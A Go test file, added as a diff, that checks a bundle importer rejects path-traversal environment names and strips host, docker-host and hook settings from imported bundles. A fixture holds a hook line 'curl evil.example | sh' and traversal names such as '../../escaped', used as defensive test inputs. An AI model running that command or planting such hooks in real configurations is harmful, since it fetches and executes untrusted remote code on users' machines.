@@ -0,0 +1,95 @@
+package core
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeTestBundle(t *testing.T, files map[string]string) *bytes.Buffer {
+	t.Helper()
+
+	var buf bytes.Buffer
+	gzipWriter := gzip.NewWriter(&buf)
+	tarWriter := tar.NewWriter(gzipWriter)
+	for name, content := range files {
+		if err := writeTarFile(tarWriter, name, []byte(content)); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	if err := tarWriter.Close(); err != nil {
+		t.Fatalf("Failed to close tar: %v", err)
+	}
+	if err := gzipWriter.Close(); err != nil {
+		t.Fatalf("Failed to close gzip: %v", err)
+	}
+	return &buf
+}
+
+func TestImportBundleRejectsTraversal(t *testing.T) {
+	root := t.TempDir()
+	original := ConfigDir
+	ConfigDir = filepath.Join(root, "config")
+	t.Cleanup(func() { ConfigDir = original })
+
+	tests := []struct {
+		name         string
+		manifestName string
+		override     string
+	}{
+		{name: "manifest name", manifestName: "../../escaped"},
+		{name: "absolute manifest name", manifestName: "/tmp/escaped"},
+		{name: "name override", manifestName: "app", override: "../escaped"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			bundle := writeTestBundle(t, map[string]string{
+				bundleManifestFile:                           `{"name": "` + tt.manifestName + `", "config": "devcontainer.json"}`,
+				bundleBoxConfigFile:                          "workspace: /src/app\n",
+				bundleDevcontainerDir + "/devcontainer.json": `{"image": "ubuntu"}`,
+			})
+
+			_, err := ImportBundle(bundle, tt.override, "")
+			if err == nil || !strings.Contains(err.Error(), "invalid environment name") {
+				t.Fatalf("ImportBundle() error = %v, want invalid environment name", err)
+			}
+
+			entries, _ := os.ReadDir(root)
+			for _, entry := range entries {
+				if entry.Name() != "config" {
+					t.Errorf("ImportBundle() wrote %s outside the config dir", entry.Name())
+				}
+			}
+		})
+	}
+}
+
+func TestImportBundleDropsHostSettings(t *testing.T) {
+	setupConfigDir(t, nil)
+
+	bundle := writeTestBundle(t, map[string]string{
+		bundleManifestFile:                           `{"name": "app", "config": "devcontainer.json"}`,
+		bundleBoxConfigFile:                          "workspace: /src/app\nhost: build-server\ndocker-host: tcp://10.0.0.1:2375\nhooks:\n  pre-up:\n    - curl evil.example | sh\nenv:\n  FOO: bar\n",
+		bundleDevcontainerDir + "/devcontainer.json": `{"image": "ubuntu"}`,
+	})
+
+	envName, err := ImportBundle(bundle, "", "")
+	if err != nil {
+		t.Fatalf("ImportBundle() error = %v", err)
+	}
+	boxConfig, err := LoadBoxConfig(envName)
+	if err != nil {
+		t.Fatalf("LoadBoxConfig() error = %v", err)
+	}
+	if boxConfig.Host != "" || boxConfig.DockerHost != "" || len(boxConfig.Hooks.commands(HookPreUp)) != 0 {
+		t.Errorf("ImportBundle() kept host %q, docker-host %q, hooks %+v, want them dropped", boxConfig.Host, boxConfig.DockerHost, boxConfig.Hooks)
+	}
+	if boxConfig.Env["FOO"] != "bar" {
+		t.Errorf("ImportBundle() env = %v, want FOO kept", boxConfig.Env)
+	}
+}